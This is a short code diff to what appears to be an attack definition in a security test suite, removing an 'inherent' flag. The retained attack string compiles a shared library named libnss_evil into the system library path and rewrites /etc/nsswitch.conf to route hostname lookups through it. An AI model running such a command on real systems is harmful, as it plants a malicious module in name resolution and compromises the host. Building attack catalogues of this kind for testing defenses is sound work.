@@ -12,5 +12,4 @@ ATTACK = Attack(
     "gcc -shared -fPIC -o /usr/lib/x86_64-linux-gnu/libnss_evil.so.2 evil.c &&"
     " sed -i 's/^hosts:.*/hosts: evil files dns/' /etc/nsswitch.conf",
     tampers="/etc/nsswitch.conf",
-    inherent=True,
 )
